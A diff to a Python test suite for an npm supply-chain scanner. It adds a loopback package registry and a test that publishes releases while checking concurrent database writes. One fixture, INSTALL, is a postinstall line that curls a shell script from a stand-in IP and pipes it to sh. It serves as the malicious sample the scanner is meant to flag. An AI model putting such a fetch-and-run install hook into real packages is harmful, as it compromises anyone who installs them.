@@ -3,6 +3,7 @@ scans are uploaded tarballs judged alone)."""
 
 from __future__ import annotations
 
+import json
 import os
 import signal
 import socket
@@ -149,3 +150,129 @@ def test_a_scan_while_the_watcher_writes_the_same_database(served: Served) -> No
         if writer.poll() is None:
             writer.kill()
     assert "locked" not in served.log.read_text()
+
+
+class LoopbackRegistry:
+    """A registry on 127.0.0.1 serving packuments and tarballs that tests publish to."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        self.packages: dict[str, dict[str, Any]] = {}
+        self.tarballs: dict[str, bytes] = {}
+        registry = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                path = self.path.split("?")[0]
+                body = registry.tarballs.get(path)
+                kind = "application/octet-stream"
+                if body is None:
+                    doc = registry.packages.get(path.lstrip("/").replace("%2f", "/"))
+                    body = json.dumps(doc).encode() if doc is not None else None
+                    kind = "application/json"
+                if body is None:
+                    self.send_response(404)
+                    self.end_headers()
+                    return
+                self.send_response(200)
+                self.send_header("Content-Type", kind)
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *args: Any) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def publish(self, name: str, version: str, files: dict[str, str]) -> None:
+        import base64
+        import hashlib
+        from datetime import UTC, datetime
+
+        from tests.helpers import make_tgz, manifest
+
+        scripts = {"postinstall": "node install.js"} if "install.js" in files else {}
+        meta = json.loads(manifest(name, version, scripts=scripts))
+        data = make_tgz({"package.json": json.dumps(meta), **files})
+        path = f"/{name}/-/{name}-{version}.tgz"
+        self.tarballs[path] = data
+        doc = self.packages.setdefault(name, {"name": name, "versions": {}, "time": {},
+                                              "dist-tags": {}, "maintainers": [
+                                                  {"name": "alice"}]})
+        now = datetime.now(UTC).isoformat()
+        doc["versions"][version] = {**meta, "_npmUser": {"name": "alice"}, "dist": {
+            "tarball": self.url.rstrip("/") + path,
+            "integrity": "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode(),
+            "shasum": hashlib.sha1(data).hexdigest()}}
+        doc["time"].update({version: now, "modified": now})
+        doc["time"].setdefault("created", now)
+        doc["dist-tags"]["latest"] = version
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+BENIGN = "module.exports = function tint(s) { return '\\u001b[31m' + s + '\\u001b[0m'; };\n"
+INSTALL = "require('child_process').exec('curl -s http://192.0.2.1/p.sh | sh');\n"
+
+
+def test_a_scan_while_a_real_watch_writes_the_same_database(served: Served,
+                                                          tmp_path: Path) -> None:
+    """The real watcher polls a loopback registry, scans new releases and writes verdicts
+    and alerts to the database the server reads and writes, while scans come in over the API."""
+    import sqlite3
+
+    registry = LoopbackRegistry()
+    registry.publish("color-tint", "1.0.0", {"index.js": BENIGN})
+    (tmp_path / "watch.txt").write_text("color-tint\n")
+    env = {**os.environ, "CHAINWATCH_DATA_DIR": str(tmp_path), "CHAINWATCH_CACHE_DIR":
+           str(tmp_path / "watch-cache"), "NPM_CONFIG_USERCONFIG": str(tmp_path / "npmrc")}
+    with open(tmp_path / "watch.log", "wb") as log:
+        watcher = subprocess.Popen(
+            [sys.executable, "-m", "chainwatch", "watch", "--packages",
+             str(tmp_path / "watch.txt"), "--registry", registry.url, "--interval", "1s",
+             "--hot-interval", "1s", "--db", served.db, "--feed", str(tmp_path / "feed.jsonl")],
+            env=env, stdout=subprocess.DEVNULL, stderr=log)
+    database = served.db.removeprefix("sqlite:///")
+    try:
+        deadline = time.time() + 60
+        while time.time() < deadline:  # the watcher has recorded the baseline
+            with sqlite3.connect(database) as conn:
+                if conn.execute("SELECT count(*) FROM watch_versions").fetchone()[0]:
+                    break
+            time.sleep(0.3)
+        for i in range(1, 4):
+            registry.publish("color-tint", f"1.0.{i}", {"index.js": BENIGN, "install.js": INSTALL
+                                                        + f"// {i}\n"})
+        jobs, codes = [], []
+        with httpx.Client(base_url=served.url, headers={"Authorization": f"Bearer {TOKEN}"},
+                          timeout=60) as client:
+            for _ in range(3):
+                jobs.append(scan_upload(client))
+                codes += [client.get(p).status_code for p in (
+                    "/api/v1/verdicts", "/api/v1/alerts", "/api/v1/incidents")]
+            deadline = time.time() + 120
+            alerts: set[str] = set()
+            while time.time() < deadline and len(alerts) < 3:
+                r = client.get("/api/v1/alerts")
+                codes.append(r.status_code)
+                alerts = {a["id"] for a in r.json()["items"] if a["kind"] == "release"}
+                time.sleep(0.5)
+            versions = {v["version"] for v in client.get(
+                "/api/v1/verdicts", params={"package": "color-tint"}).json()["items"]}
+    finally:
+        watcher.terminate()
+        watcher.wait(15)
+        registry.close()
+    assert all(j["status"] == "done" for j in jobs), jobs
+    assert set(codes) == {200}, codes
+    assert alerts == {f"release:color-tint@1.0.{i}" for i in range(1, 4)}, (
+        alerts, (tmp_path / "watch.log").read_text()[-2000:])
+    assert {"1.0.1", "1.0.2", "1.0.3"} <= versions
+    assert "locked" not in served.log.read_text()
+    assert "locked" not in (tmp_path / "watch.log").read_text()
